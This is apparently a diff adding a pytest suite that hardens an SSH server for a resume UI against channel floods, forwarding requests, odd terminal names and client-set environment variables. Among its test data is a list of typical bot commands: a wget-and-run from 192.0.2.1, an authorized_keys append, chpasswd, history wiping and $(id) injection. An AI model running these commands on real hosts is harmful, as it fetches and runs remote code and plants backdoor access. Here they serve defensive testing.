@@ -1,0 +1,302 @@
+"""Requests that nobody needs, in numbers that nobody needs."""
+
+import itertools
+import pathlib
+import re
+import time
+
+import wire
+from cost import SANITIZED, Meter, cpu, memory
+from polite import polite_visit
+from wire import admitted, fate, is_closed
+
+MANY = 20000
+SIZES = [0, 1, 32767, 32768, 65535, 2**31, 2**32 - 1]
+ADDRESSES = ("127.0.0.1", 25, "127.0.0.1", 1)
+
+OPENS = {
+    "session": (),
+    "direct-tcpip": ADDRESSES,
+    "forwarded-tcpip": ADDRESSES,
+    "x11": ADDRESSES[:2],
+    "auth-agent@openssh.com": (),
+    "direct-streamlocal@openssh.com": ("/run/x", "", 0),
+    "\x1b[31m" * 1000: (),
+}
+
+
+def sockets(pid):
+    found = []
+    for path in pathlib.Path(f"/proc/{pid}/fd").iterdir():
+        if path.readlink().name.startswith("socket:"):
+            found.append(path.name)
+    return sorted(found)
+
+
+def test_channels_are_refused_and_cut_off(host):
+    server = host()
+    for kind, words in OPENS.items():
+        link = admitted(server)
+        meter = Meter(server, link)
+        before = sockets(meter.pid)
+        assert link.open() is not None
+        link.say(wire.CHANNEL_OPEN, kind, 1, 1 << 20, 1 << 15, *words)
+        assert link.hear(wire.OPEN_FAILURE), kind
+        assert sockets(meter.pid) == before, kind
+        begin = time.monotonic()
+        for i in range(MANY):
+            if not link.say(wire.CHANNEL_OPEN, kind, i, 1 << 20, 1 << 15,
+                            *words):
+                break
+        assert not link.hear(wire.OPEN_CONFIRMATION), kind
+        assert is_closed(link), kind
+        assert time.monotonic() - begin < 5, kind
+        assert fate(server, link)[0] == "refusals", kind
+
+
+FORWARDS = {
+    "tcpip-forward": ("", 0),
+    "cancel-tcpip-forward": ("", 0),
+}
+
+
+def test_remote_forwards_are_refused_and_cut_off(host):
+    server = host()
+    for kind, words in FORWARDS.items():
+        link = admitted(server)
+        begin = time.monotonic()
+        for _ in range(MANY):
+            if not link.say(wire.GLOBAL_REQUEST, kind, True, *words):
+                break
+        assert not link.hear(wire.REQUEST_SUCCESS), kind
+        assert is_closed(link), kind
+        assert time.monotonic() - begin < 5, kind
+        assert fate(server, link)[0] == "refusals", kind
+
+
+# Requests on a channel that count as refused: what is behind the name.
+COUNTED = {
+    "exec": ("text",),
+    "shell": (),
+    "subsystem": ("evil",),
+    "x11-req": (False, "MIT-MAGIC-COOKIE-1", "00", 0),
+    "pty-req": ("xterm", 80, 24, 0, 0, ""),
+    "env": ("LD_PRELOAD", "/evil.so"),
+}
+
+
+def test_refused_requests_are_cut_off(host):
+    """A second pty, command, and so on, without end."""
+    server = host()
+    for kind, words in COUNTED.items():
+        link = admitted(server)
+        channel = link.open()
+        begin = time.monotonic()
+        for _ in range(MANY):
+            if not link.request(channel, kind, *words):
+                break
+        assert is_closed(link), kind
+        assert time.monotonic() - begin < 5, kind
+        assert fate(server, link)[0] == "refusals", kind
+
+
+# What is merely answered, for real clients say such things.
+STORM = [(wire.GLOBAL_REQUEST, "streamlocal-forward@openssh.com", True, "/x"),
+         (wire.GLOBAL_REQUEST, "\x1b" * 100, True),
+         (wire.GLOBAL_REQUEST, "keepalive@openssh.com", True),
+         (wire.CHANNEL_REQUEST, 2**32 - 1, "exec", True, "x"),
+         (wire.IGNORE, "x" * 100)]
+
+
+def test_storm_of_what_is_merely_answered_costs_little(host):
+    server = host()
+    link = admitted(server)
+    meter = Meter(server, link)
+    storm = [*STORM, (wire.CHANNEL_REQUEST, link.open(), "winadj", True)]
+    for i in range(MANY):
+        assert link.say(*storm[i % len(storm)])
+        if i % 1000 == 0:
+            meter.read()
+        if i == MANY // 2:
+            polite_visit(server)
+    assert meter.stays_below(1024)
+    assert cpu(meter.pid) < 10
+    link.close()
+
+
+def test_channels_that_come_and_go_leave_nothing(host):
+    server = host()
+    link = admitted(server)
+    meter = Meter(server, link)
+    for _ in range(300):
+        link.say(wire.CLOSE, link.open())
+        assert link.hear(wire.CLOSE)
+    assert meter.stays_below(1024)
+    link.close()
+
+
+def quit(server, link, channel):
+    """Take leave of the renderer, which must have been in good health."""
+    before = server.log.count("ended peer=127.0.0.1")
+    link.say(wire.DATA, channel, "q")
+    assert link.hear(wire.CLOSE)
+    assert server.log.count("ended peer=127.0.0.1") == before + 1
+    assert re.findall(r"ended peer=127.* exit=(\d+)", server.log)[-1] == "0"
+    link.say(wire.CLOSE, channel)
+
+
+def renderer(server):
+    """The newest one."""
+    return max(server.processes("resume-ui"))
+
+
+def test_absurd_sizes_at_the_start_kill_nobody(host):
+    """The edges of the square; the next test has all of it."""
+    server = host()
+    link = admitted(server)
+    for columns, rows in itertools.product(SIZES, SIZES):
+        if not {columns, rows} & {0, 2**32 - 1}:
+            continue
+        channel = link.shell(columns, rows)
+        quit(server, link, channel)
+    link.close()
+
+
+def test_absurd_sizes_later_kill_nobody(host):
+    server = host("--max-resizes", "100")
+    link = admitted(server)
+    channel = link.shell()
+    pid = renderer(server)
+    for columns, rows in itertools.product(SIZES, SIZES):
+        link.request(channel, "window-change", columns, rows, columns, rows)
+        time.sleep(0.02)
+    assert SANITIZED or memory(pid) < 16 * 1024
+    print(memory(pid), "kB")
+    quit(server, link, channel)
+    link.close()
+
+
+TERMS = ["", "x" * 100000, "../../etc/passwd", "xterm\x1b[31m", "%s%n",
+         "xterm\0evil"]
+
+
+def test_odd_names_of_terminals_harm_nobody(host):
+    server = host()
+    link = admitted(server)
+    for term in TERMS:
+        channel = link.open()
+        link.request(channel, "pty-req", term, 80, 24, 0, 0, "\0" * 100000)
+        link.request(channel, "shell")
+        assert link.hear(wire.DATA)
+        link.say(wire.DATA, channel, "q")
+        assert link.hear(wire.CLOSE)
+        link.say(wire.CLOSE, channel)
+    assert not re.search("evil|passwd|%s|xxx", server.log)
+    link.close()
+
+
+COMMANDS = ["x" * 200000, "text\0; id", "\x1b[31m" * 100, "", "\n" * 4000,
+            "text " * 800]
+
+
+def test_odd_commands_get_an_answer(host):
+    """Too long: refused. Else text, or a sentence; and one line of the log."""
+    server = host()
+    link = admitted(server)
+    for command in COMMANDS:
+        channel = link.open()
+        link.request(channel, "exec", command, reply=True)
+        refused = not link.hear(wire.CHANNEL_SUCCESS, wire.CHANNEL_FAILURE)\
+            .startswith(bytes([wire.CHANNEL_SUCCESS]))
+        assert refused == (len(command) > 4096)
+        if refused:
+            link.say(wire.CLOSE, channel)
+        assert link.hear(wire.CLOSE)
+        if not refused:
+            link.say(wire.CLOSE, channel)
+    assert all(" " <= c <= "~" or c == "\n" for c in server.log)
+    assert max(map(len, server.log.splitlines())) < 1000
+    link.close()
+
+
+def test_command_of_a_megabyte_ends_the_connection(host):
+    """No packet is that long."""
+    server = host()
+    link = admitted(server)
+    link.request(link.open(), "exec", "x" * (1 << 20))
+    assert is_closed(link)
+    assert fate(server, link)[0] == "left"
+
+
+ENVIRONMENT = ["LD_PRELOAD", "LD_LIBRARY_PATH", "PATH", "TERMINFO", "BASH_ENV",
+               "IFS", "HOME", "TERMCAP", "NCURSES_ASSUMED_COLORS", "LANG",
+               "LC_ALL", "SSH_ORIGINAL_COMMAND", "LANG\0X", "", "A=B"]
+
+
+def test_environment_is_not_the_clients(host):
+    """Thirty-two variables are looked at, and few of them are ours."""
+    server = host()
+    link = admitted(server)
+    channel = link.open()
+    for name in ENVIRONMENT:
+        link.request(channel, "env", name, "/tmp/evil.so")
+    link.request(channel, "env", "LC_CTYPE", "x" * 100000)
+    link.request(channel, "pty-req", "xterm", 80, 24, 0, 0, "")
+    link.request(channel, "shell")
+    assert link.hear(wire.DATA)
+    path = pathlib.Path(f"/proc/{renderer(server)}/environ")
+    assert b"evil" not in path.read_bytes()
+    assert len(path.read_bytes()) < 1000
+    quit(server, link, channel)
+    link.close()
+
+
+# As bots send them, more often than not.
+BOTS = ["uname -a", "uname -s -v -n -r -m", "cat /proc/cpuinfo | grep name",
+        "/ip cloud print", "nproc", "whoami", "uptime", "lspci | grep VGA",
+        "locate D877F783D5D3EF8C", "cat /proc/uptime 2 > /dev/null",
+        "echo -e '\\x41' > /tmp/.x; chmod 777 /tmp/.x",
+        "cd ~; chattr -ia .ssh; echo key >> .ssh/authorized_keys",
+        "cd /tmp || cd /var/run; wget http://192.0.2.1/a.sh; sh a.sh",
+        "export HISTFILE=/dev/null; nproc", "echo root:x|chpasswd|bash",
+        "sh", "/bin/busybox X", "$(id)", "`id`", "text; id", "|id"]
+UPLOADS = ["scp -t /tmp/x", "scp -qt /tmp", "scp -r -t -- /tmp"]
+
+
+def answer(link, command):
+    """What a command gives, but for the word that repeats it."""
+    channel = link.open()
+    link.request(channel, "exec", command)
+    words = b""
+    while message := link.hear(wire.DATA, wire.EXTENDED_DATA, wire.CLOSE,
+                               wire.CHANNEL_REQUEST):
+        words += message[:1] + message[5:]
+        if message[:1] == bytes([wire.CLOSE]):
+            break
+    link.say(wire.CLOSE, channel)
+    return words.replace(command.split()[0].encode(), b"X", 1)
+
+
+def test_bots_all_get_the_same_answer(host):
+    """An exit status, too; but for lengths, which that word changes."""
+    server = host()
+    link = admitted(server)
+    answers = {re.sub(rb"\0\0\0.", b"", answer(link, command))
+               for command in BOTS}
+    assert len(answers) == 1, answers
+    assert b"exit-status" in answers.pop()
+    assert not pathlib.Path("/tmp/.x").exists()
+    link.close()
+
+
+def test_uploads_make_no_file(host):
+    server = host()
+    for command in UPLOADS:
+        link = admitted(server)
+        channel = link.open()
+        link.request(channel, "exec", command)
+        for _ in range(3):
+            link.say(wire.DATA, channel, "C0644 4 resume-sshd-evil\nevil\0")
+        assert link.hear(wire.CLOSE)
+        link.close()
+    assert not list(pathlib.Path("/tmp").glob("resume-sshd-evil*"))
